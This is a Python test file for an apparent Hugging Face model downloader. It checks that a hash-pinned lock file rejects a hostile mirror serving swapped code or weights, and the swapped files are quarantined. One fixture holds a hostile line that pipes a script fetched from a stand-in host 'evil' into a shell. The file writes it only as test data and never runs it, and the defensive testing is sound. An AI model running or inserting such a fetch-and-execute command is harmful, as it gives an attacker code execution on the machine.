"""hf_model with a lock (issue #32 item 8): a hostile mirror that serves other bytes with a
listing whose hashes match them is accepted without a lock (the control: the listing
alone cannot catch it) and refused with the lock written from the trusted hub.

Both hubs are tests/hfstub/server.py's HubStub (STAND-INs on 127.0.0.1): TRUSTED serves
the real files, HOSTILE the swapped ones under the same repo id and the same commit, with
a tree listing computed from the bytes it serves (so every listed hash matches them).
"""
import hashlib
import json
import os
import pathlib

import pytest

import hf_model
import hf_model_lock
from gpufleet import hub_listing, hub_manifest, model_lock
from helpers import run_module
from hfstub.server import HubStub, Repo  # noqa: E402

REPO = "org/tiny"
FILES = {
    "config.json": b'{"architectures": ["TinyForCausalLM"], "auto_map": '
                   b'{"AutoConfig": "configuration_tiny.TinyConfig"}}',
    "configuration_tiny.py": b"class TinyConfig:\n    pass\n",
    "modeling_tiny.py": b"def forward(x):\n    return x\n",
    "model.safetensors": os.urandom(256 << 10),  # LFS: listed with its sha256
}
EVIL_PY = b"import os\nos.system('curl evil | sh')\n"
EVIL_WEIGHTS = os.urandom(256 << 10)


def sha256(data):
    return hashlib.sha256(data).hexdigest()


TRUSTED_REPO = Repo(REPO, FILES)
LOCK = {"repo_id": REPO, "commit": TRUSTED_REPO.commit,
        "files": {p: sha256(d) for p, d in FILES.items()}}


def hostile(swaps):
    """The same repo id and commit as TRUSTED, with `swaps` ({path: bytes}) served instead
    and listed with the hashes of what is served."""
    repo = Repo(REPO, {**FILES, **swaps})
    repo.commit = TRUSTED_REPO.commit
    return repo


def args(stub, dest, **kw):
    return {"repo_id": REPO, "dest": str(dest), "endpoint": stub.url, "retries": 0, **kw}


def test_the_hostile_listing_matches_its_own_bytes():
    """The premise: the hostile mirror's listing is consistent (hub_listing.parse_tree reads it and
    every hash is that of the bytes it serves), so only the lock can tell."""
    evil = hostile({"modeling_tiny.py": EVIL_PY, "model.safetensors": EVIL_WEIGHTS})
    listed = {f.path: f for f in hub_listing.parse_tree(evil.tree())}
    assert listed["model.safetensors"].digest == sha256(EVIL_WEIGHTS)
    assert listed["modeling_tiny.py"].digest == hashlib.sha1(
        b"blob %d\0" % len(EVIL_PY) + EVIL_PY).hexdigest()
    assert evil.commit == LOCK["commit"]


@pytest.mark.parametrize("swaps", [
    {"modeling_tiny.py": EVIL_PY},                       # code: a git-blob-listed file
    {"model.safetensors": EVIL_WEIGHTS},                 # weights: an LFS file
], ids=["code", "weights"])
def test_hostile_mirror_is_accepted_without_a_lock_and_refused_with_it(swaps, tmp_path,
                                                                      monkeypatch):
    (path, evil_bytes), = swaps.items()
    with HubStub([hostile(swaps)]) as stub:
        # control: without the lock, the swapped bytes pass every check and are in place
        plain = tmp_path / "plain"
        res, failed = run_module(hf_model.main, args(stub, plain), monkeypatch)
        assert not failed, res["msg"]
        assert res["locked"] is False and res["commit"] == LOCK["commit"]
        assert (plain / path).read_bytes() == evil_bytes

        locked = tmp_path / "locked"
        res, failed = run_module(hf_model.main, args(stub, locked, lock=LOCK), monkeypatch)
    assert failed
    assert path in res["msg"] and LOCK["files"][path] in res["msg"]
    assert sha256(evil_bytes) in res["msg"]
    assert not (locked / path).exists()  # never put in place
    manifest = hub_manifest.read_manifest(str(locked))
    assert manifest.get("complete") is not True


def test_weights_swap_is_refused_from_the_listing_before_anything_is_written(tmp_path,
                                                                            monkeypatch):
    with HubStub([hostile({"model.safetensors": EVIL_WEIGHTS})]) as stub:
        dest = tmp_path / "m"
        for check in (True, False):
            res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch,
                                     check_mode=check)
            assert failed and "the endpoint's listing differs from the lock" in res["msg"]
            assert (f"model.safetensors: the lock pins sha256 {LOCK['files']['model.safetensors']}"
                    f", the endpoint lists sha256 {sha256(EVIL_WEIGHTS)}") in res["msg"]
            assert not dest.exists()
        assert stub.requests_for("/resolve/") == []  # not one byte was asked for


def test_code_swap_is_quarantined_and_the_rest_is_not_called_complete(tmp_path, monkeypatch):
    with HubStub([hostile({"modeling_tiny.py": EVIL_PY})]) as stub:
        dest = tmp_path / "m"
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch)
    assert failed
    assert (f"modeling_tiny.py: the lock pins sha256 {LOCK['files']['modeling_tiny.py']}, "
            f"the bytes received hash to sha256 {sha256(EVIL_PY)}") in res["msg"]
    assert res["quarantined"][0]["path"] == "modeling_tiny.py"
    assert not dest.exists()  # never switched to a commit folder that failed
    folder = tmp_path / ".gpufleet-revisions/m" / res["commit"]
    assert res["path"] == str(folder)
    assert (folder / ".gpufleet/quarantine/modeling_tiny.py").read_bytes() == EVIL_PY
    assert not (folder / "modeling_tiny.py").exists()
    manifest = hub_manifest.read_manifest(str(folder))
    assert manifest["complete"] is False and "modeling_tiny.py" not in manifest["files"]
    # one request for it: a lock mismatch is not fetched again from the same mirror
    assert len(stub.requests_for("/modeling_tiny.py")) == 1


def test_trusted_mirror_with_the_lock_then_reruns(tmp_path, monkeypatch):
    with HubStub([TRUSTED_REPO]) as stub:
        dest = tmp_path / "m"
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch,
                                 check_mode=True)
        assert not failed and res["changed"] and not dest.exists()
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch)
        assert not failed, res["msg"]
        assert res["locked"] is True and res["changed"] is True
        for p, d in FILES.items():
            assert (dest / p).read_bytes() == d
        files = hub_manifest.read_manifest(str(dest))["files"]
        assert {p: e["lock_sha256"] for p, e in files.items()} == LOCK["files"]
        # the listing's own hash stays under its algorithm's key (what hf_mirror_index
        # reads to tell LFS files from the others)
        assert "sha256" not in files["config.json"] and "sha1" in files["config.json"]
        # a re-run trusts the manifest (the lock's sha256 is in it): nothing fetched
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch)
        assert not failed and res["changed"] is False and res["bytes_downloaded"] == 0
        assert {f["status"] for f in res["files"]} == {"trusted"}
        # and so does one without the lock (the extra sha256 does not make files outdated)
        res, failed = run_module(hf_model.main, args(stub, dest), monkeypatch)
        assert not failed and res["bytes_downloaded"] == 0, res


def test_a_local_file_swapped_to_match_a_hostile_listing_is_not_trusted(tmp_path,
                                                                         monkeypatch):
    """A folder fetched under the lock, whose .py was then swapped for the hostile copy
    (mtime changed), hashed against the hostile listing matches it; the lock does not."""
    dest = tmp_path / "m"
    with HubStub([TRUSTED_REPO]) as stub:
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch)
        assert not failed
    (dest / "modeling_tiny.py").write_bytes(EVIL_PY)
    with HubStub([hostile({"modeling_tiny.py": EVIL_PY})]) as stub:
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK, verify="full"),
                                 monkeypatch)
    assert failed and LOCK["files"]["modeling_tiny.py"] in res["msg"]
    assert not (dest / "modeling_tiny.py").exists()
    assert hub_manifest.read_manifest(str(dest))["complete"] is False


def test_another_commit_is_refused_before_any_write(tmp_path, monkeypatch):
    other = Repo(REPO, {**FILES, "README.md": b"moved on\n"})
    with HubStub([other]) as stub:
        dest = tmp_path / "m"
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch)
    assert failed and not dest.exists()
    assert f"resolves the revision to commit {other.commit}" in res["msg"]
    assert f"the lock pins commit {LOCK['commit']}" in res["msg"]


def test_a_file_the_lock_lacks_and_one_it_pins_that_is_not_listed(tmp_path, monkeypatch):
    extra = Repo(REPO, {**FILES, "extra_hook.py": b"print('hi')\n"})
    extra.commit = LOCK["commit"]
    fewer = Repo(REPO, {p: d for p, d in FILES.items() if p != "configuration_tiny.py"})
    fewer.commit = LOCK["commit"]
    for repo, needle in ((extra, "extra_hook.py: listed by the endpoint (sha1 "),
                         (fewer, "configuration_tiny.py: pinned by the lock (sha256 "
                                 f"{LOCK['files']['configuration_tiny.py']}) but the "
                                 "endpoint does not list it")):
        with HubStub([repo]) as stub:
            dest = tmp_path / repo.files.__len__().__str__()
            res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch)
        assert failed and needle in res["msg"], res["msg"]
        assert not dest.exists()


def test_patterns_narrow_what_the_lock_requires(tmp_path, monkeypatch):
    fewer = Repo(REPO, {p: d for p, d in FILES.items() if p != "modeling_tiny.py"})
    fewer.commit = LOCK["commit"]
    with HubStub([fewer]) as stub:
        dest = tmp_path / "m"
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK,
                                                      ignore_patterns=["modeling_*.py"]),
                                 monkeypatch)
    assert not failed, res["msg"]
    assert sorted(f["path"] for f in res["files"]) == [
        "config.json", "configuration_tiny.py", "model.safetensors"]


def test_lock_given_as_a_yaml_file_on_the_target(tmp_path, monkeypatch):
    path = tmp_path / "tiny.lock.yml"
    path.write_text(model_lock.render_lock(model_lock.parse_lock(LOCK)))
    with HubStub([hostile({"modeling_tiny.py": EVIL_PY})]) as stub:
        res, failed = run_module(hf_model.main, args(stub, tmp_path / "m", lock=str(path)),
                                 monkeypatch)
    assert failed and sha256(EVIL_PY) in res["msg"]


@pytest.mark.parametrize("lock, needle", [
    ({**LOCK, "commit": "main"}, "is not a commit sha"),
    ({**LOCK, "repo_id": "org/other"}, "the lock is for org/other, not org/tiny"),
    ({**LOCK, "files": {"../x.py": "0" * 64}}, "unsafe"),
    ("/nonexistent/tiny.lock.yml", "cannot read the lock file"),
])
def test_a_bad_lock_fails_before_any_request(lock, needle, tmp_path, monkeypatch):
    with HubStub([TRUSTED_REPO]) as stub:
        dest = tmp_path / "m"
        res, failed = run_module(hf_model.main, args(stub, dest, lock=lock), monkeypatch)
        assert failed and needle in res["msg"] and "Nothing was fetched" in res["msg"]
        assert stub.log == [] and not dest.exists()


# ---------------------------------------------------------------- hf_model_lock

def lock_args(stub, path, **kw):
    return {"repo_id": REPO, "endpoint": stub.url, "path": str(path), "retries": 0, **kw}


def test_hf_model_lock_writes_the_lock_from_the_trusted_hub(tmp_path, monkeypatch):
    path = tmp_path / "locks" / "tiny.lock.yml"
    path.parent.mkdir()
    with HubStub([TRUSTED_REPO]) as stub:
        res, failed = run_module(hf_model_lock.main, lock_args(stub, path), monkeypatch,
                                 check_mode=True)
        assert not failed and res["changed"] is True and not path.exists()
        assert res["lock"]["files"] == LOCK["files"]
        res, failed = run_module(hf_model_lock.main, lock_args(stub, path), monkeypatch)
        assert not failed and res["changed"] is True
        # the weights were not downloaded: their sha256 is the hub's listing
        assert stub.requests_for("model.safetensors") == []
        assert oct(path.stat().st_mode & 0o777) == "0o644"
        written = model_lock.load_lock_file(str(path))
        assert written.as_dict()["files"] == LOCK["files"]
        assert written.commit == LOCK["commit"] and written.source == stub.url
        res, failed = run_module(hf_model_lock.main, lock_args(stub, path), monkeypatch)
        assert not failed and res["changed"] is False
    # the lock written there refuses the hostile mirror
    with HubStub([hostile({"modeling_tiny.py": EVIL_PY})]) as stub:
        res, failed = run_module(hf_model.main, args(stub, tmp_path / "m", lock=str(path)),
                                 monkeypatch)
    assert failed and sha256(EVIL_PY) in res["msg"]


def test_hf_model_lock_does_not_replace_another_commit_without_force(tmp_path, monkeypatch):
    path = tmp_path / "tiny.lock.yml"
    path.write_text(model_lock.render_lock(model_lock.parse_lock(LOCK)))
    before = path.read_text()
    moved = Repo(REPO, {**FILES, "README.md": b"new\n"})
    with HubStub([moved]) as stub:
        res, failed = run_module(hf_model_lock.main, lock_args(stub, path), monkeypatch)
        assert failed and "set force to replace it" in res["msg"]
        assert path.read_text() == before
        res, failed = run_module(hf_model_lock.main, lock_args(stub, path, force=True),
                                 monkeypatch)
        assert not failed and res["changed"] is True
    assert model_lock.load_lock_file(str(path)).commit == moved.commit


def test_hf_model_lock_refuses_a_small_file_whose_bytes_miss_the_listing(tmp_path,
                                                                         monkeypatch):
    """The trusted source is still checked: bytes that miss its own listing are refused."""
    path = tmp_path / "tiny.lock.yml"
    with HubStub([TRUSTED_REPO], corrupt={"config.json": b"{}"}) as stub:
        res, failed = run_module(hf_model_lock.main, lock_args(stub, path), monkeypatch)
    assert failed and "config.json" in res["msg"] and not path.exists()


def test_lock_yaml_reads_back_with_pyyaml(tmp_path):
    import yaml

    text = model_lock.render_lock(model_lock.parse_lock(
        {**LOCK, "files": {**LOCK["files"], "odd/ünï:cödé#.py": "a" * 64}}), comment="x\ny")
    assert model_lock.parse_lock(yaml.safe_load(text)).files["odd/ünï:cödé#.py"] == "a" * 64
    assert json.loads(json.dumps(yaml.safe_load(text)))["commit"] == LOCK["commit"]


def test_hf_model_lock_from_a_verified_copy(tmp_path, monkeypatch):
    dest, path = tmp_path / "m", tmp_path / "tiny.lock.yml"
    with HubStub([TRUSTED_REPO]) as stub:
        res, failed = run_module(hf_model.main, args(stub, dest), monkeypatch)
        assert not failed
    res, failed = run_module(hf_model_lock.main, {"src": str(dest), "path": str(path)},
                             monkeypatch)
    assert not failed and res["changed"] is True
    written = model_lock.load_lock_file(str(path))
    assert (written.repo_id, written.commit) == (REPO, LOCK["commit"])
    assert written.files == LOCK["files"] and written.source == f"file://{dest}"
    # a copy changed since it was verified pins nothing
    (dest / "modeling_tiny.py").write_bytes(EVIL_PY)
    res, failed = run_module(hf_model_lock.main, {"src": str(dest), "path": str(path),
                                                  "force": True}, monkeypatch)
    assert failed and "modeling_tiny.py: the manifest records sha1" in res["msg"]
    assert model_lock.load_lock_file(str(path)).files == LOCK["files"]
    res, failed = run_module(hf_model_lock.main, {"src": str(tmp_path), "path": str(path)},
                             monkeypatch)
    assert failed and "holds no complete manifest" in res["msg"]


def test_a_locked_folder_is_published_by_the_site_mirror_as_the_hub_lists_it(tmp_path,
                                                                               monkeypatch):
    """hf_mirror_index reads the manifest's sha256 as 'an LFS file': the lock's sha256 is
    kept under its own key, so a locked fetch publishes the hub's listing unchanged."""
    from gpufleet import hub_mirror

    dest = tmp_path / "m"
    with HubStub([TRUSTED_REPO]) as stub:
        res, failed = run_module(hf_model.main, args(stub, dest, lock=LOCK), monkeypatch)
        assert not failed
    model = hub_mirror.read_model_folder(str(dest))
    assert {f.path: (f.algorithm, f.digest) for f in model["files"]} == {
        p: ("sha256" if p in TRUSTED_REPO.lfs else "sha1", TRUSTED_REPO.digest(p))
        for p in FILES}
